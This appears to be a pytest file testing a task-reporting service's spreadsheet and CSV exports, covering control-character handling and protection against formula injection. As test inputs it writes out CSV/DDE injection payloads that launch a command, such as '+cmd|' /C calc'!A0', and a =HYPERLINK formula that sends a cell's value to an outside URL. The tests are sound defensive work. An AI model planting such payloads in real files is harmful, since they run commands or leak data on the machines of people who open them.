"""Text that would break or subvert the report: control characters (refused by the API; stripped from what is
already stored) and formula-like text (kept as text in XLSX and CSV), issues 11 and 12."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest
from nats.js import JetStreamContext
from openpyxl import load_workbook
from openpyxl.cell import Cell

from services.runtime.nats.embedded import EmbeddedNats
from services.tasks.adapters.tables import task_reports, tasks
from services.tasks.domain.text import csv_cell, is_formula_like, xml_safe
from tests.tasks.helpers import PLAN_ID, Clock, auth, database, running_app, settings_for, started

pytestmark = [pytest.mark.postgres, pytest.mark.timeout(120)]

# Every C0 control but NUL (PostgreSQL text cannot hold NUL), DEL and a C1 control, as a fuzzer stored them.
CONTROLS = "".join(chr(code) for code in range(1, 32)) + "\x7f\x85"
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def _task_cells(workbook_bytes: bytes) -> dict[str, tuple[Cell, ...]]:
    sheet = load_workbook(io.BytesIO(workbook_bytes))["Nhiệm vụ"]
    return {str(row[0].value): row for row in sheet.iter_rows() if row[0].value}


def _csv_rows(content: bytes) -> dict[str, list[str]]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return {row[0]: row for row in rows if row}


async def test_report_exports_every_format_when_a_stored_task_holds_control_characters(
    nats_server: EmbeddedNats, jetstream: JetStreamContext, database_url: str, tmp_path: Path, clock: Clock
) -> None:
    """Issue 11: a task whose text holds control characters made `GET /v1/reports/plan?format=xlsx` answer 500
    to everyone. The rows are inserted directly, as text stored before the API refused it."""
    async with started(settings_for(nats_server.url, database_url, tmp_path), clock) as running:
        async with database(database_url) as engine, engine.begin() as connection:
            await connection.execute(
                tasks.insert().values(
                    plan_id=PLAN_ID,
                    task_id="FUZZ.1",
                    position=999,
                    parent_id=None,
                    section="Nhiệm vụ bổ sung",
                    title=f"Tiêu đề{CONTROLS}cuối",
                    owner="HCC",
                    collaborators=[],
                    deadline=date(2026, 12, 31),
                    details={},
                    origin="api",
                    active=True,
                    progress_percent=10,
                    started=True,
                    updated_at=clock(),
                )
            )
            await connection.execute(
                task_reports.insert().values(
                    plan_id=PLAN_ID,
                    task_id="FUZZ.1",
                    progress_percent=10,
                    summary=f"\t=1+2{CONTROLS}",
                    reporter="An",
                    recorded_by="test-hcc",
                    recorded_at=clock(),
                )
            )
        answers = {
            form: await running.client.get("/v1/reports/plan", params={"format": form}, headers=auth("KT"))
            for form in ("xlsx", "csv", "md", "json")
        }
    assert {form: answer.status_code for form, answer in answers.items()} == dict.fromkeys(answers, 200)
    row = _task_cells(answers["xlsx"].content)["FUZZ.1"]  # what XML holds of them: tab, LF, CR (read as LF)
    assert row[1].value == "Tiêu đề\t\n\n\x7f\x85cuối"
    assert (row[7].value, row[7].data_type, row[7].quotePrefix) == ("\t=1+2\t\n\n\x7f\x85", "s", True)
    fields = _csv_rows(answers["csv"].content)["FUZZ.1"]
    assert fields[1] == "Tiêu đề\t\n\r\x7f\x85cuối"
    assert fields[7] == "'\t=1+2\t\n\r\x7f\x85"
    assert answers["json"].json()["tasks"][-1]["title"] == f"Tiêu đề{CONTROLS}cuối"


async def _post(api: httpx.AsyncClient, path: str, body: dict[str, Any], owner: str = "admin") -> httpx.Response:
    return await api.post(path, json=body, headers=auth(owner))


async def test_formula_like_text_stays_text_when_the_report_is_exported(
    nats_server: EmbeddedNats, jetstream: JetStreamContext, database_url: str, tmp_path: Path, clock: Clock
) -> None:
    """Issue 12: a unit's report text `=HYPERLINK(...)` became a live formula in the XLSX, and CSV fields began
    with `=`. Real numbers, negative ones included, stay numbers."""
    titles = {"FX.1": "+cmd|' /C calc'!A0", "FX.2": "@SUM(1+1)*cmd|' /C calc'!A0", "FX.3": "-2+3+cmd|' /C calc'!A0"}
    async with running_app(settings_for(nats_server.url, database_url, tmp_path), clock) as api:
        for task_id, title in titles.items():
            body = {"id": task_id, "title": title, "owner": "HCC", "deadline": "2026-12-31"}
            assert (await _post(api, "/v1/tasks", body)).status_code == 201
        report = {"progress_percent": 50, "summary": HYPERLINK, "reporter": "Trần Thị Bình"}
        assert (await _post(api, "/v1/tasks/FX.1/reports", report, "HCC")).status_code == 201
        hdi = {"value": -0.5, "evidence": "=1+1", "reporter": "Nguyễn Văn An"}
        assert (await _post(api, "/v1/indicators/12/reports", hdi, "VHXH")).status_code == 201
        as_xlsx = await api.get("/v1/reports/plan", params={"format": "xlsx"}, headers=auth("KT"))
        as_csv = await api.get("/v1/reports/plan", params={"format": "csv"}, headers=auth("KT"))
    rows = _task_cells(as_xlsx.content)
    for task_id, title in titles.items():
        assert (rows[task_id][1].value, rows[task_id][1].data_type, rows[task_id][1].quotePrefix) == (title, "s", True)
    summary = rows["FX.1"][7]
    assert (summary.value, summary.data_type, summary.quotePrefix) == (HYPERLINK, "s", True)
    indicators = load_workbook(io.BytesIO(as_xlsx.content))["Chỉ tiêu (Phụ lục I)"]
    hdi_row = next(row for row in indicators.iter_rows() if row[0].value == 12)
    assert (hdi_row[6].value, hdi_row[6].data_type) == (-0.5, "n")
    fields = _csv_rows(as_csv.content)
    assert [fields[task_id][1] for task_id in titles] == [f"'{title}" for title in titles.values()]
    assert fields["FX.1"][7] == f"'{HYPERLINK}"
    assert fields["12"][6] == "-0,5"


REFUSED: list[tuple[str, str, str, dict[str, Any], str]] = [
    (
        "POST",
        "/v1/tasks",
        "admin",
        {"id": "C.1", "title": "Tiêu đề\x1b[31m", "owner": "HCC", "deadline": "2026-12-31"},
        "title",
    ),
    (
        "POST",
        "/v1/tasks",
        "admin",
        {"id": "C.2", "title": "Hai\ndòng", "owner": "HCC", "deadline": "2026-12-31"},
        "title",
    ),
    (
        "POST",
        "/v1/tasks",
        "admin",
        {"id": "C.3", "title": "Đúng", "content": "Nội\x00", "owner": "HCC", "deadline": "2026-12-31"},
        "content",
    ),
    (
        "POST",
        "/v1/tasks/PL2.NV3/reports",
        "VHXH",
        {"progress_percent": 5, "summary": "Xong\x07", "reporter": "An"},
        "summary",
    ),
    (
        "POST",
        "/v1/tasks/PL2.NV3/reports",
        "VHXH",
        {"progress_percent": 5, "summary": "Xong", "reporter": "A\tn"},
        "reporter",
    ),
    ("PATCH", "/v1/tasks/PL2.NV3", "admin", {"title": "Mới\u0085cũ"}, "title"),
    ("PATCH", "/v1/tasks/PL2.NV3", "admin", {"status": "done", "reason": "Lý do\x1f"}, "reason"),
    ("POST", "/v1/indicators/5/reports", "VHXH", {"value": 1, "evidence": "Số\ufffe", "reporter": "An"}, "evidence"),
    (
        "POST",
        "/v1/indicators/5/reports",
        "VHXH",
        {"value": 1, "evidence": "Có", "reporter": "An", "note": "a\x0cb"},
        "note",
    ),
]


async def test_text_is_refused_with_422_naming_the_field_when_it_holds_a_control_character(
    nats_server: EmbeddedNats, jetstream: JetStreamContext, tmp_path: Path, clock: Clock
) -> None:
    database_url = f"sqlite+aiosqlite:///{tmp_path / 'tasks.db'}"
    answers = []
    async with running_app(settings_for(nats_server.url, database_url, tmp_path), clock) as api:
        for method, path, owner, body, _field in REFUSED:
            answers.append(await api.request(method, path, json=body, headers=auth(owner)))
    assert [answer.status_code for answer in answers] == [422] * len(REFUSED), [answer.text for answer in answers]
    assert {answer.headers["content-type"] for answer in answers} == {"application/problem+json"}
    assert [[error["field"] for error in answer.json()["errors"]] for answer in answers] == [
        [f"body.{field}"] for *_rest, field in REFUSED
    ]
    assert all("control character" in answer.json()["errors"][0]["reason"] for answer in answers)


async def test_multi_line_text_is_kept_when_it_holds_line_breaks_and_tabs(
    nats_server: EmbeddedNats, jetstream: JetStreamContext, tmp_path: Path, clock: Clock
) -> None:
    database_url = f"sqlite+aiosqlite:///{tmp_path / 'tasks.db'}"
    body = {"progress_percent": 5, "summary": "Dòng 1\r\nDòng 2\tcột", "reporter": "An"}
    async with running_app(settings_for(nats_server.url, database_url, tmp_path), clock) as api:
        assert (await _post(api, "/v1/tasks/PL2.NV3/reports", body, "VHXH")).status_code == 201
        task = (await api.get("/v1/tasks/PL2.NV3", headers=auth("KT"))).json()
    assert task["last_report"]["summary"] == "Dòng 1\nDòng 2\tcột"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("-2,5", "-2,5"),
        ("Đạt", "Đạt"),
        ("a\x00b\x1fc\ud800d\uffff", "abcd"),
    ],
)
def test_csv_cell_is_neutral_when_text_starts_like_a_formula_or_holds_illegal_characters(
    text: str, expected: str
) -> None:
    assert csv_cell(text) == expected
    assert not is_formula_like(xml_safe(expected)) or expected.startswith("'")
